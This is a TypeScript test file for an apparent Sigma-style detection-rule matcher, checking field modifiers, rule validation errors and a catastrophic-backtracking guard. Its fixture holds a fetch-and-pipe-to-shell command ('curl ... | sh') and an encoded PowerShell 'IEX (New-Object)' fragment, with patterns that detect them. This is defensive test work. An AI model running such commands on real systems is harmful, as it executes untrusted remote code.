import { Fields } from './fields';
import { RuleProblem } from './problem';
import { compileItem } from './value-matcher';

const record = new Fields({
  CommandLine: 'curl -s https://example.net/a | sh',
  Image: '/usr/bin/curl',
  OriginalFileName: 'curl',
  DestinationIp: '10.1.2.3',
  Six: '2001:db8::1',
  DestinationPort: 8443,
  Many: ['one', 'two'],
  Empty: '',
  Encoded: Buffer.from('xx http://example.net yy').toString('base64'),
  Wide: Buffer.from('IEX (New-Object)', 'utf16le').toString('base64'),
  UtcTime: Date.UTC(2026, 0, 5, 22, 15),
  Lines: 'first\nSECOND',
});
const holds = (key: string, value: unknown) =>
  compileItem(key, value, [], { hosts: ['example.net', 'example.org'] })(record);

test.each<[string, unknown, boolean]>([
  ['CommandLine|contains', 'HTTPS://', true],
  ['CommandLine|contains|cased', 'HTTPS://', false],
  ['CommandLine|contains|all', ['curl', '| sh'], true],
  ['CommandLine|contains|all', ['curl', '| bash'], false],
  ['CommandLine|contains', ['wget', 'curl'], true],
  ['Image|endswith', '/curl', true],
  ['Image|startswith', '/usr', true],
  ['Image', '/usr/bin/*', true],
  ['CommandLine|re', 'https?://[a-z.]+/a', true],
  ['CommandLine|re', 'HTTPS', false],
  ['CommandLine|re|i', 'HTTPS', true],
  ['Lines|re', '^SECOND$', false],
  ['Lines|re|m', '^SECOND$', true],
  ['Lines|re', 'first.SECOND', false],
  ['Lines|re|s', 'first.SECOND', true],
  ['DestinationIp|cidr', '10.0.0.0/8', true],
  ['DestinationIp|cidr', ['192.168.0.0/16', '172.16.0.0/12'], false],
  ['Six|cidr', '2001:db8::/32', true],
  ['Image|cidr', '10.0.0.0/8', false],
  ['DestinationPort', 8443, true],
  ['DestinationPort|gt', 1024, true],
  ['DestinationPort|gte', 8443, true],
  ['DestinationPort|lt', 8443, false],
  ['DestinationPort|lte', 8443, true],
  ['Image|gt', 5, false],
  ['Many', 'two', true],
  ['Image|exists', true, true],
  ['Absent|exists', true, false],
  ['Absent|exists', false, true],
  ['Absent', null, true],
  ['Empty', null, true],
  ['Image', null, false],
  ['Image|neq', '/bin/sh', true],
  ['DestinationPort|neq', 8443, false],
  ['Encoded|base64offset|contains', 'http://example.net', true],
  ['Encoded|base64offset|contains', 'http://example.org', false],
  ['Wide|wide|base64offset|contains', 'New-Object', true],
  ['CommandLine|contains|expand', 'https://%hosts%/', true],
  ['Image|fieldref|endswith', 'OriginalFileName', true],
  ['Image|fieldref', 'OriginalFileName', false],
  ['Image|fieldref|neq', 'OriginalFileName', true],
  ['UtcTime|hour|gte', 22, true],
  ['UtcTime|minute', 15, true],
  ['UtcTime|week', 2, true],
  ['UtcTime|year|lt', 2026, false],
  ['|contains', 'example.net', true],
])('%s: %j is %s', (key, value, expected) => expect(holds(key, value)).toBe(expected));

const problem = (key: string, value: unknown): string => {
  try {
    compileItem(key, value, ['detection', 'a', key], {});
  } catch (error) {
    if (error instanceof RuleProblem) return `${error.kind}: ${error.message}`;
    throw error;
  }
  return 'none';
};

test.each<[string, unknown, string]>([
  ['A|near', 'x', 'invalid: unknown modifier "near"'],
  ['A|re', '(a', 'invalid: the pattern is not valid'],
  ['A|re', '(?=a)b', 'unsupported: the pattern looks around'],
  ['A|re', '(a)\\1', 'unsupported: the pattern looks around or refers back'],
  ['A|cidr', '10.0.0.0/40', 'invalid: must be a network'],
  ['A|lt', 'many', 'invalid: the value must be a number'],
  ['A|exists', 'yes', 'invalid: exists takes true or false'],
  ['A|expand', '%admins%', 'unsupported: nothing is configured for the placeholder %admins%'],
  ['A', [], 'invalid: has no value'],
  ['A', { b: 1 }, 'invalid: a value must be'],
  ['A|re', 'x'.repeat(5_000), 'invalid: the pattern is longer'],
])('%s: %j is refused', (key, value, expected) => expect(problem(key, value)).toContain(expected));

test('a pattern that would run for ever elsewhere ends at once', () => {
  const evil = new Fields({ A: `${'a'.repeat(60_000)}!` });
  expect(compileItem('A|re', '^(a+)+$', [], {})(evil)).toBe(false);
});
